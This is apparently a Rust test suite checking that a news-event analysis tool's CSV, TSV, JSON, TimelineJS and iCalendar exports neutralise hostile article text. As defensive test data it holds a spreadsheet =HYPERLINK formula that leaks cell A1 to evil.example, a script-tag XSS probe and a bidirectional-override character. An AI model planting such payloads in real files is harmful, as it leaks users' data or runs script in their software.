//! Hostile articles (`tests/hostile-exports/`, described in its README, and a
//! 10,000-character name made here) through the real `dateline` binary, then every
//! export parsed back by a real parser: JSON (serde_json), CSV (csv), the CAMEO table,
//! TimelineJS (serde_json) and iCalendar (unfolded and read line by line as RFC 5545
//! says). The text is intact and nothing is injected: no cell a spreadsheet runs, no
//! markup, no iCalendar property or component of the article's making.

use std::path::PathBuf;
use std::process::Command;

use dateline::analysis::{Analysis, EventOut};
use dateline::workspace::exports;

fn hostile_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests").join("hostile-exports")
}

/// The hostile articles and a 10,000-character name, copied to a fresh folder.
fn corpus() -> PathBuf {
    use std::sync::atomic::{AtomicUsize, Ordering};
    static N: AtomicUsize = AtomicUsize::new(0);
    let dir = std::env::temp_dir().join(format!(
        "dateline-hostile-exports-{}-{}",
        std::process::id(),
        N.fetch_add(1, Ordering::SeqCst)
    ));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    for entry in std::fs::read_dir(hostile_dir()).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "txt") {
            std::fs::copy(&path, dir.join(path.file_name().unwrap())).unwrap();
        }
    }
    let long = format!("Q{}", "x".repeat(9_999));
    std::fs::write(
        dir.join("long-name.txt"),
        format!("date 2024-03-06\nPresident Ilse {long} of Arnor met King Theodric Morwen on Monday.\n"),
    )
    .unwrap();
    dir
}

fn run(format: &str, dir: &std::path::Path) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_dateline"))
        .args(["analyze", "--today", "2026-11-22", "--format", format, dir.to_str().unwrap()])
        .output()
        .expect("run dateline");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success() && !err.contains("panicked"), "{format}: {err}");
    String::from_utf8(out.stdout).expect("UTF-8 output")
}

fn runs_in_a_spreadsheet(field: &str) -> bool {
    matches!(
        field.trim_start_matches(' ').as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// A field as the spreadsheet-safe rule writes it: a leading quote before a dangerous start.
fn quoted(s: &str) -> String {
    if runs_in_a_spreadsheet(s) {
        format!("'{s}")
    } else {
        s.to_string()
    }
}

fn analysis() -> (Analysis, PathBuf) {
    let dir = corpus();
    let json = run("json", &dir);
    let a: Analysis = serde_json::from_str(&json).expect("the JSON export parses back");
    (a, dir)
}

/// (event id, article id) → sentence, for every source.
fn sentences(a: &Analysis) -> Vec<(String, String, String)> {
    a.events
        .iter()
        .flat_map(|e| e.sources.iter().map(move |s| (e.id.clone(), s.article.clone(), s.sentence.clone())))
        .collect()
}

#[test]
fn json_keeps_the_hostile_text_and_its_offsets() {
    let (a, dir) = analysis();
    assert_eq!(a.articles.len(), 6, "every hostile article is read");
    assert!(a.events.len() >= 4, "events from the hostile articles: {}", a.events.len());
    for ev in &a.events {
        for s in &ev.sources {
            let art = a.article(&s.article).unwrap();
            assert_eq!(&art.text[s.start..s.end], s.sentence, "the evidence is the text at its offsets");
        }
    }
    // The hostile text is there, unchanged.
    let all: String = sentences(&a).into_iter().map(|(_, _, s)| s).collect::<Vec<_>>().join("\n");
    for piece in [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "<script>alert(1)</script>",
        "Van\u{202e}trow\u{202c}",
    ] {
        assert!(all.contains(piece), "{piece:?} is kept in the evidence");
    }
    // Invisible controls inside a name neither split it nor stay in it.
    assert!(
        a.actors.iter().any(|x| x.name == "Ilse Vantrow"),
        "the name with a right-to-left override inside is one name"
    );
    assert!(a
        .actors
        .iter()
        .all(|x| !x.name.chars().any(
            |c| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        )));
    // The 10,000-character "name" is kept whole in its article's text; an actor that
    // holds any of it holds it whole.
    let long = "x".repeat(9_999);
    assert!(a.articles.iter().any(|x| x.text.contains(&long)), "the long name's article is kept whole");
    assert!(a.actors.iter().filter(|x| x.name.contains("xxxx")).all(|x| x.name.contains(&long)));
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn csv_and_cameo_table_parse_back_with_nothing_a_spreadsheet_runs() {
    let (a, dir) = analysis();
    let by_key: std::collections::HashMap<(String, String), String> =
        sentences(&a).into_iter().map(|(e, art, s)| ((e, art), s)).collect();
    let csv = run("csv", &dir);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let head = reader.headers().unwrap().clone();
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let (id, article, sentence) = (col("id"), col("article"), col("sentence"));
    let mut rows = 0;
    for rec in reader.records() {
        let rec = rec.expect("a CSV record");
        assert_eq!(rec.len(), head.len());
        for f in rec.iter() {
            assert!(!runs_in_a_spreadsheet(f), "a CSV field a spreadsheet runs: {f:?}");
        }
        let want = &by_key[&(rec[id].to_string(), rec[article].to_string())];
        assert_eq!(rec[sentence], quoted(want), "the sentence is intact");
        rows += 1;
    }
    assert_eq!(rows, by_key.len(), "one row per event and source");

    let tsv = run("cameo", &dir);
    let mut lines = tsv.split('\n');
    let head: Vec<&str> = lines.next().unwrap().split('\t').collect();
    let evidence = head.iter().position(|h| *h == "evidence").unwrap();
    let mut n = 0;
    let all_sentences: Vec<String> = by_key
        .values()
        .map(|s| quoted(&s.split(['\t', '\n', '\r']).filter(|p| !p.is_empty()).collect::<Vec<_>>().join(" ")))
        .collect();
    for line in lines.filter(|l| !l.is_empty()) {
        let row: Vec<&str> = line.split('\t').collect();
        assert_eq!(row.len(), head.len(), "a row broken by the article's text: {line:?}");
        assert!(!line.contains('\r'));
        for f in &row {
            assert!(!runs_in_a_spreadsheet(f), "a CAMEO-table field a spreadsheet runs: {f:?}");
        }
        assert!(all_sentences.iter().any(|s| s == row[evidence]), "evidence intact: {:?}", row[evidence]);
        n += 1;
    }
    assert_eq!(n, by_key.len());
    let _ = std::fs::remove_dir_all(dir);
}

fn html_unescape(s: &str) -> String {
    s.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&")
}

#[test]
fn timelinejs_holds_text_not_markup() {
    let (a, dir) = analysis();
    let v: serde_json::Value = serde_json::from_str(&exports::timelinejs(&a, "<b>pile</b>")).unwrap();
    assert_eq!(v["title"]["text"]["headline"], "&lt;b&gt;pile&lt;/b&gt;");
    let slides = v["events"].as_array().unwrap();
    assert_eq!(slides.len(), a.events.iter().filter(|e| e.date.is_some()).count());
    for s in slides {
        let ev: &EventOut = a.events.iter().find(|e| e.id == s["unique_id"].as_str().unwrap()).unwrap();
        let text = s["text"]["text"].as_str().unwrap();
        let headline = s["text"]["headline"].as_str().unwrap();
        // The only tags are the export's own paragraphs.
        let tags = text.matches('<').count();
        assert_eq!(
            tags,
            text.matches("<p>").count() + text.matches("</p>").count(),
            "markup injected: {text}"
        );
        assert!(!headline.contains('<'));
        assert_eq!(html_unescape(headline), ev.summary);
        for src in &ev.sources {
            assert!(html_unescape(text).contains(&src.sentence), "the sentence intact in {text}");
        }
    }
    let _ = std::fs::remove_dir_all(dir);
}

/// RFC 5545 content lines: unfolded, split at CRLF, each `NAME[;params]:value`.
fn content_lines(ics: &str) -> Vec<(String, String)> {
    assert!(ics.ends_with("\r\n"));
    let unfolded = ics.replace("\r\n ", "");
    unfolded
        .split("\r\n")
        .filter(|l| !l.is_empty())
        .map(|l| {
            assert!(!l.contains('\r') && !l.contains('\n'), "a bare line break: {l:?}");
            let colon = l.find(':').unwrap_or_else(|| panic!("not a content line: {l:?}"));
            let name = l[..colon].split(';').next().unwrap().to_string();
            (name, l[colon + 1..].to_string())
        })
        .collect()
}

fn ics_unescape(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n' | 'N') => out.push('\n'),
                Some(o) => out.push(o),
                None => {}
            }
        } else {
            out.push(c);
        }
    }
    out
}

#[test]
fn icalendar_has_only_its_own_properties_and_the_text_intact() {
    let (a, dir) = analysis();
    let ics = exports::ical(&a, jiff::civil::date(2026, 11, 22));
    let lines = content_lines(&ics);
    const OWN: &[&str] = &[
        "BEGIN",
        "END",
        "VERSION",
        "PRODID",
        "CALSCALE",
        "UID",
        "DTSTAMP",
        "DTSTART",
        "DTEND",
        "SUMMARY",
        "DESCRIPTION",
        "LOCATION",
        "CATEGORIES",
    ];
    for (name, value) in &lines {
        assert!(OWN.contains(&name.as_str()), "a property the article made: {name}:{value}");
        if name == "BEGIN" || name == "END" {
            assert!(value == "VCALENDAR" || value == "VEVENT", "{name}:{value}");
        }
    }
    let dated: Vec<&EventOut> = a.events.iter().filter(|e| e.date.is_some()).collect();
    assert_eq!(lines.iter().filter(|(n, v)| n == "BEGIN" && v == "VEVENT").count(), dated.len());
    let summaries: Vec<String> =
        lines.iter().filter(|(n, _)| n == "SUMMARY").map(|(_, v)| ics_unescape(v)).collect();
    let descriptions: Vec<String> =
        lines.iter().filter(|(n, _)| n == "DESCRIPTION").map(|(_, v)| ics_unescape(v)).collect();
    for (k, ev) in dated.iter().enumerate() {
        assert_eq!(summaries[k], ev.summary);
        for src in &ev.sources {
            let flat = src.sentence.replace('\r', "");
            assert!(descriptions[k].contains(&flat), "the sentence intact: {:?}", descriptions[k]);
        }
    }
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn key_dates_parse_back_as_json_and_as_csv_with_nothing_a_spreadsheet_runs() {
    let (a, dir) = analysis();
    let json: serde_json::Value = serde_json::from_str(&run("dates", &dir)).expect("key dates are JSON");
    let days = json.as_array().expect("an array of days");
    assert!(!days.is_empty(), "the hostile articles name days");
    let summaries: Vec<&str> = a.events.iter().map(|e| e.summary.as_str()).collect();
    for d in days {
        let s = d["summary"].as_str().unwrap();
        assert!(s.is_empty() || summaries.contains(&s), "a summary is an event's, intact: {s:?}");
        for id in d["events"].as_array().unwrap() {
            assert!(a.events.iter().any(|e| e.id == id.as_str().unwrap()), "{id} is an event");
        }
    }
    let csv = run("dates-csv", &dir);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let head = reader.headers().unwrap().clone();
    let (date, summary) =
        (head.iter().position(|h| h == "date").unwrap(), head.iter().position(|h| h == "summary").unwrap());
    let mut rows = 0;
    for (rec, d) in reader.records().zip(days) {
        let rec = rec.expect("a CSV record");
        assert_eq!(rec.len(), head.len());
        for f in rec.iter() {
            assert!(!runs_in_a_spreadsheet(f), "a key-dates field a spreadsheet runs: {f:?}");
        }
        assert_eq!(&rec[date], d["date"].as_str().unwrap());
        assert_eq!(rec[summary], quoted(d["summary"].as_str().unwrap()), "the summary is intact");
        rows += 1;
    }
    assert_eq!(rows, days.len(), "one row per day");
    let _ = std::fs::remove_dir_all(dir);
}
